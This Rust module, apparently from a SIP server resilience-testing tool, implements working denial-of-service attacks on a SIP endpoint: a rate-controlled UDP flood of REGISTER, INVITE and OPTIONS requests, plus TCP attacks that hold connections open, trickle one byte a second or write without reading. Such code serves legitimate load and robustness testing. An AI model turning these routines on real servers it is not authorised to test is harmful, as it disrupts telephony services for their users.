//! A stranger who wants to hurt: floods of requests, and connections that are held and never used as they should be. What it costs the far
//! end is measured elsewhere; here it is only done, for a while, and counted.

use crate::message::{Dialog, Names, register};
use crate::plan::CitizenError;
use serde::Serialize;
use std::future::poll_fn;
use std::io;
use std::net::{IpAddr, SocketAddr};
use std::str::FromStr;
use std::task::Poll;
use std::time::Duration;
use tokio::io::{AsyncRead, AsyncWriteExt, ReadBuf};
use tokio::net::{TcpSocket, TcpStream, UdpSocket};
use tokio::time::{Instant, interval, timeout_at};

/// How often a flood sends its share of a second.
const BEATS_PER_S: u32 = 100;
/// How often connections are looked at.
const LOOK: Duration = Duration::from_secs(1);

/// What is done.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Attack {
    /// `count` requests a second over UDP: REGISTER, INVITE and OPTIONS by turns, each of a call of its own.
    Flood,
    /// `count` TCP connections ask with OPTIONS as fast as they can and read no answer.
    NeverReads,
    /// `count` TCP connections send one byte of an INVITE a second.
    SlowBytes,
    /// `count` TCP connections say nothing.
    HalfOpen,
}

/// Names on the command line.
const ATTACKS: [(&str, Attack); 4] =
    [("flood", Attack::Flood), ("never-reads", Attack::NeverReads), ("slow-bytes", Attack::SlowBytes), ("half-open", Attack::HalfOpen)];

impl FromStr for Attack {
    type Err = String;

    fn from_str(text: &str) -> Result<Self, String> {
        let known = || ATTACKS.map(|(name, _)| name).join(", ");
        let found = ATTACKS.iter().find(|(name, _)| *name == text).map(|(_, attack)| *attack);
        found.ok_or_else(|| format!("{text:?} is no attack; there are {}", known()))
    }
}

/// One attack, planned.
#[derive(Debug, Clone)]
pub struct AttackPlan {
    /// SIP address of the far end: UDP for a flood, TCP for the rest.
    pub server: SocketAddr,
    /// Own address; the ports are the system's choice.
    pub bind: IpAddr,
    /// What is done.
    pub attack: Attack,
    /// Requests a second, or connections.
    pub count: u32,
    /// For how long.
    pub length: Duration,
}

/// What came of it.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize)]
pub struct AttackReport {
    /// Whole requests that went out.
    pub requests: u64,
    /// Answers that came over UDP.
    pub answers: u64,
    /// Connections that the far end took.
    pub connections: u64,
    /// Those that it closed before the attack was over.
    pub closed: u64,
}

/// Attacks until the time is over.
///
/// # Errors
/// [`CitizenError`] when not even one socket could be had; what the far end did is in the report.
pub async fn attack(plan: &AttackPlan) -> Result<AttackReport, CitizenError> {
    let until = Instant::now() + plan.length;
    match plan.attack {
        Attack::Flood => flood(plan, until).await.map_err(|source| CitizenError::Bind { address: plan.bind, source }),
        Attack::NeverReads | Attack::SlowBytes | Attack::HalfOpen => Ok(hold(plan, until).await),
    }
}

/// The next request of nobody in particular.
fn request(number: u64, local: SocketAddr, server: SocketAddr) -> Vec<u8> {
    let names = Names { unique: format!("{:016x}{number:x}", fastrand::u64(..)) };
    let user = format!("{}", 1_000 + number % 9_000);
    match number % 3 {
        0 => register(&names, local, server, &user, 60, 1, None).into(),
        1 => Dialog::new(local, server, Some(&user), "12345", names).invite("").into(),
        _ => Dialog::new(local, server, Some(&user), "12345", names).options().into(),
    }
}

async fn flood(plan: &AttackPlan, until: Instant) -> io::Result<AttackReport> {
    let socket = UdpSocket::bind((plan.bind, 0)).await?;
    socket.connect(plan.server).await?;
    let local = socket.local_addr()?;
    let mut report = AttackReport::default();
    let mut datagram = vec![0; 65_535];
    let mut beat = interval(Duration::from_secs(1) / BEATS_PER_S);
    let begun = Instant::now();
    while Instant::now() < until {
        tokio::select! {
            read = socket.recv(&mut datagram) => report.answers += u64::from(read.is_ok()),
            _ = beat.tick() => {
                let due = begun.elapsed().as_millis() as u64 * u64::from(plan.count) / 1_000;
                while report.requests < due {
                    // What the system has no room for is lost, as on any line.
                    let _ = socket.send(&request(report.requests, local, plan.server)).await;
                    report.requests += 1;
                }
            }
        }
    }
    Ok(report)
}

/// A connection, and what of its next request is still to be written.
struct Held {
    stream: TcpStream,
    rest: Vec<u8>,
}

async fn hold(plan: &AttackPlan, until: Instant) -> AttackReport {
    let mut report = AttackReport::default();
    let mut held = Vec::new();
    for _ in 0..plan.count {
        // A far end that takes no more, or a system that gives no more: the attack goes on with what it has.
        let Ok(Ok(stream)) = timeout_at(until, connect(plan)).await else { break };
        report.connections += 1;
        held.push(Held { stream, rest: Vec::new() });
    }
    while Instant::now() < until && !held.is_empty() {
        let before = held.len();
        let mut kept = Vec::with_capacity(before);
        for mut one in held {
            if act(plan, &mut one, &mut report).await {
                kept.push(one);
            }
        }
        held = kept;
        report.closed += (before - held.len()) as u64;
        let pause = tokio::time::sleep_until((Instant::now() + LOOK).min(until));
        pause.await;
    }
    report
}

async fn connect(plan: &AttackPlan) -> io::Result<TcpStream> {
    let socket = if plan.bind.is_ipv4() { TcpSocket::new_v4()? } else { TcpSocket::new_v6()? };
    socket.bind(SocketAddr::new(plan.bind, 0))?;
    socket.connect(plan.server).await
}

/// What this connection does now; whether it still stands.
async fn act(plan: &AttackPlan, held: &mut Held, report: &mut AttackReport) -> bool {
    match plan.attack {
        Attack::Flood | Attack::HalfOpen => is_open(&mut held.stream).await,
        Attack::SlowBytes => {
            if held.rest.is_empty() {
                held.rest = over_tcp(held, plan.server, 1);
            }
            let byte = held.rest.remove(0);
            report.requests += u64::from(held.rest.is_empty());
            is_open(&mut held.stream).await && held.stream.write_all(&[byte]).await.is_ok()
        }
        Attack::NeverReads => ask_until_full(plan, held, report),
    }
}

/// Writes requests until the system takes no more; whether the connection still stands.
fn ask_until_full(plan: &AttackPlan, held: &mut Held, report: &mut AttackReport) -> bool {
    loop {
        if held.rest.is_empty() {
            held.rest = over_tcp(held, plan.server, 2);
        }
        match held.stream.try_write(&held.rest) {
            Ok(length) => drop(held.rest.drain(..length)),
            Err(error) => return error.kind() == io::ErrorKind::WouldBlock,
        }
        report.requests += u64::from(held.rest.is_empty());
    }
}

fn over_tcp(held: &Held, server: SocketAddr, number: u64) -> Vec<u8> {
    let local = held.stream.local_addr().unwrap_or(server);
    String::from_utf8_lossy(&request(number, local, server)).replacen("SIP/2.0/UDP", "SIP/2.0/TCP", 1).into_bytes()
}

/// Whether the far end has not closed it; what it says is dropped.
async fn is_open(stream: &mut TcpStream) -> bool {
    poll_fn(|context| {
        let mut bytes = [0; 2048];
        let mut buffer = ReadBuf::new(&mut bytes);
        match std::pin::Pin::new(&mut *stream).poll_read(context, &mut buffer) {
            Poll::Ready(Ok(())) => Poll::Ready(!buffer.filled().is_empty()),
            Poll::Ready(Err(_)) => Poll::Ready(false),
            Poll::Pending => Poll::Ready(true),
        }
    })
    .await
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_requests_of_a_flood_take_turns_and_are_all_different() {
        let address = |text: &str| text.parse().expect("an address");
        let text = |number| String::from_utf8(request(number, address("127.0.0.9:5070"), address("127.0.0.1:5060"))).expect("text");
        let all: Vec<String> = (0..6).map(text).collect();
        for (place, method) in ["REGISTER ", "INVITE ", "OPTIONS ", "REGISTER ", "INVITE ", "OPTIONS "].into_iter().enumerate() {
            assert!(all[place].starts_with(method), "{}", all[place]);
        }
        let call_id = |text: &String| text.lines().find(|line| line.starts_with("Call-ID")).map(str::to_owned);
        assert_ne!(call_id(&all[0]), call_id(&all[3]));
        assert_eq!("slow-bytes".parse(), Ok(Attack::SlowBytes));
        assert!("kindness".parse::<Attack>().expect_err("no attack").contains("half-open"));
    }
}
